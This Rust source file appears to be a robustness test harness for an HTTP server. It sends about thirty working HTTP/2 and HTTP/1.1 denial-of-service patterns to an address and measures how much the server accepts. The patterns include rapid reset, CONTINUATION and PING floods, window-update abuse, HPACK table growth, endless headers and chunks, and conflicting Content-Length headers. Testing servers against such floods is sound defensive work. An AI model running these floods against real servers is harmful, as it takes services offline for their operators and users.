//! What is sent, how much of it, and how much of it may be taken.

use std::fmt;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    beginning, field, frame, get, request,
};

/// What the other end does not take within this time it will not take at all.
const PATIENCE: Duration = Duration::from_millis(1_500);
/// Bytes that two systems may keep between a client that writes and a server that has hung up: their buffers.
const BUFFERS_BYTES: u64 = 7 << 20;

/// One way to abuse HTTP: a beginning, and then pieces, the n-th of which is made by `piece`.
pub struct Attack {
    pub name: &'static str,
    beginning: Vec<u8>,
    piece: Box<dyn Fn(u32) -> Vec<u8>>,
    pieces: u32,
    /// Whether answers are read meanwhile. Who does not read makes the server keep them.
    reads: bool,
    /// Bytes after which the server must have hung up; `None` where it may answer everything.
    pub taken_bytes_max: Option<u64>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ending {
    /// The other end hung up.
    HungUp,
    /// It took nothing more.
    Stopped,
    /// It took everything that there was.
    TookAll,
}

#[derive(Debug)]
pub struct Told {
    pub taken: u64,
    pub ending: Ending,
}

impl fmt::Display for Told {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:>9} bytes taken, {:?}", self.taken, self.ending)
    }
}

impl Attack {
    pub fn run(&self, address: &str) -> Told {
        let mut stream = TcpStream::connect(address).unwrap();
        stream.set_write_timeout(Some(PATIENCE)).unwrap();
        let reader = self.reads.then(|| {
            let mut reading = stream.try_clone().unwrap();
            std::thread::spawn(move || {
                let mut piece = [0; 1 << 16];
                while reading.read(&mut piece).is_ok_and(|count| count > 0) {}
            })
        });
        let told = self.send(&mut stream);
        let _ = stream.shutdown(std::net::Shutdown::Both);
        let _ = reader.map(std::thread::JoinHandle::join);
        told
    }

    fn send(&self, stream: &mut TcpStream) -> Told {
        let mut taken = 0;
        let mut waiting = self.beginning.clone();
        for number in 0..self.pieces {
            waiting.extend((self.piece)(number));
            if waiting.len() < 32 << 10 && number + 1 < self.pieces {
                continue;
            }
            if let Err(error) = stream.write_all(&waiting) {
                let stopped = matches!(error.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut);
                return Told { taken, ending: if stopped { Ending::Stopped } else { Ending::HungUp } };
            }
            taken += waiting.len() as u64;
            waiting.clear();
        }
        Told { taken, ending: Ending::TookAll }
    }

    pub fn all() -> Vec<Attack> {
        let mut attacks = streams();
        attacks.extend(floods());
        attacks.extend(headers());
        attacks.extend(old());
        attacks
    }
}

fn attack(name: &'static str, beginning: Vec<u8>, pieces: u32, piece: impl Fn(u32) -> Vec<u8> + 'static) -> Attack {
    Attack { name, beginning, piece: Box::new(piece), pieces, reads: true, taken_bytes_max: None }
}

impl Attack {
    fn without_reading(self) -> Attack {
        Attack { reads: false, ..self }
    }

    fn ends(self) -> Attack {
        Attack { taken_bytes_max: Some(BUFFERS_BYTES), ..self }
    }
}

/// Streams of a client count 1, 3, 5 …
fn stream(number: u32) -> u32 {
    2 * number + 1
}

fn streams() -> Vec<Attack> {
    let reset =
        |number: u32| [request(stream(number)), frame(RST_STREAM, 0, stream(number), &8u32.to_be_bytes())].concat();
    let narrow = beginning(&[(4, 1)]);
    vec![
        attack("rapid reset", beginning(&[]), 400_000, reset).ends(),
        attack("requests beyond the streams allowed", beginning(&[]), 400_000, |number| request(stream(number))),
        attack("windows of one byte", narrow.clone(), 32, |number| request(stream(number))).without_reading(),
        attack("windows opened byte by byte", narrow, 2_000, |number| match number {
            0..32 => request(stream(number)),
            _ => frame(WINDOW_UPDATE, 0, stream(number % 32), &1u32.to_be_bytes()),
        }),
        attack("windows opened too wide", beginning(&[]), 900_000, |number| match number {
            0 => request(1),
            _ => frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffffu32.to_be_bytes()),
        })
        .ends(),
        attack("windows opened by nothing", beginning(&[]), 900_000, |_| frame(WINDOW_UPDATE, 0, 0, &[0; 4])).ends(),
        attack("streams that go back", beginning(&[]), 600_000, |number| request(stream(1_000_000 - number))).ends(),
        attack("streams of the server's number", beginning(&[]), 600_000, |_| request(2)).ends(),
        attack("data without a request", beginning(&[]), 600, |_| frame(DATA, 0, 1, &[0; 16_000])).ends(),
    ]
}

fn floods() -> Vec<Attack> {
    let settings = |number: u32| frame(SETTINGS, 0, 0, &[&[0, 4][..], &(number % 60_000 + 1).to_be_bytes()].concat());
    let ping = |number: u32| frame(PING, 0, 0, &u64::from(number).to_be_bytes());
    vec![
        attack("settings, answers read", beginning(&[]), 100_000, settings),
        attack("settings, answers not read", beginning(&[]), 900_000, settings).without_reading(),
        attack("pings, answers read", beginning(&[]), 100_000, ping),
        attack("pings, answers not read", beginning(&[]), 900_000, ping).without_reading(),
        attack("priorities", beginning(&[]), 200_000, |number| frame(PRIORITY, 0, stream(number), &[0, 0, 0, 0, 16])),
        attack("empty data", beginning(&[]), 200_000, |number| match number {
            0 => frame(HEADERS, END_HEADERS, 1, &get()),
            _ => frame(DATA, 0, 1, &[]),
        }),
        attack("frames of unknown kinds", beginning(&[]), 200_000, |number| frame(0xf0, 0xff, number, &[1; 8])),
        attack("a frame longer than allowed", beginning(&[]), 600, |_| {
            frame(DATA, 0, 1, &vec![0; 1 << 20])[..16_000].to_vec()
        })
        .ends(),
    ]
}

fn headers() -> Vec<Attack> {
    let fields = || field("x-filler", &"y".repeat(100)).repeat(140);
    let table = || {
        // One long field put into the table, and then named again and again.
        let mut block = vec![0x40, 1, b'x', 0x7f, 0xf1, 0x1e];
        block.extend(std::iter::repeat_n(b'v', 4_080));
        block.extend(std::iter::repeat_n(0xbe, 12_000));
        block
    };
    vec![
        attack("continuations without end", beginning(&[]), 4_000, move |number| match number {
            0 => frame(HEADERS, END_STREAM, 1, &get()),
            _ => frame(CONTINUATION, 0, 1, &fields()),
        })
        .ends(),
        attack("empty continuations", beginning(&[]), 1_000_000, |number| match number {
            0 => frame(HEADERS, END_STREAM, 1, &get()),
            _ => frame(CONTINUATION, 0, 1, &[]),
        })
        .ends(),
        attack("a table that grows", beginning(&[]), 200, move |number| {
            let block = [get(), table()].concat();
            frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &block[..block.len().min(16_384)])
        }),
        attack("headers that are no headers", beginning(&[]), 1_000, |number| {
            frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &[0xff; 16_000])
        })
        .ends(),
    ]
}

/// HTTP/1.1.
fn old() -> Vec<Attack> {
    let start = |text: &str| text.as_bytes().to_vec();
    let chunked = "POST / HTTP/1.1\r\nHost: box\r\nTransfer-Encoding: chunked\r\n\r\n";
    vec![
        attack("a URL without end", start("GET /"), 2_000, |_| vec![b'a'; 16_000]).ends(),
        attack("a query without end", start("GET /?page="), 2_000, |_| vec![b'1'; 16_000]).ends(),
        attack("headers without end", start("GET / HTTP/1.1\r\n"), 800_000, |number| {
            format!("x-{number}: {number}\r\n").into_bytes()
        })
        .ends(),
        attack("one header without end", start("GET / HTTP/1.1\r\nx: "), 2_000, |_| vec![b'a'; 16_000]).ends(),
        attack("requests in a row, answers read", Vec::new(), 3_000, |_| {
            b"GET /nothing HTTP/1.1\r\nHost: box\r\n\r\n".to_vec()
        }),
        attack("requests in a row, answers not read", Vec::new(), 400_000, |_| {
            b"GET / HTTP/1.1\r\nHost: box\r\n\r\n".to_vec()
        })
        .without_reading(),
        attack("extensions of chunks without end", start(&format!("{chunked}1;")), 2_000, |_| vec![b'a'; 16_000])
            .ends(),
        attack("chunks without end", start(chunked), 400_000, |_| b"8\r\nxxxxxxxx\r\n".to_vec()),
        attack(
            "a body of 2^63",
            start("POST / HTTP/1.1\r\nHost: box\r\nContent-Length: 9223372036854775807\r\n\r\n"),
            2_000,
            |_| vec![0; 16_000],
        ),
        attack(
            "two lengths",
            start("POST / HTTP/1.1\r\nHost: box\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n"),
            2_000,
            |_| vec![b'x'; 16_000],
        )
        .ends(),
        attack("no HTTP at all", Vec::new(), 2_000, |_| vec![0x16; 16_000]).ends(),
        attack("line breaks without end", Vec::new(), 2_000, |_| b"\r\n".repeat(8_000)).ends(),
    ]
}
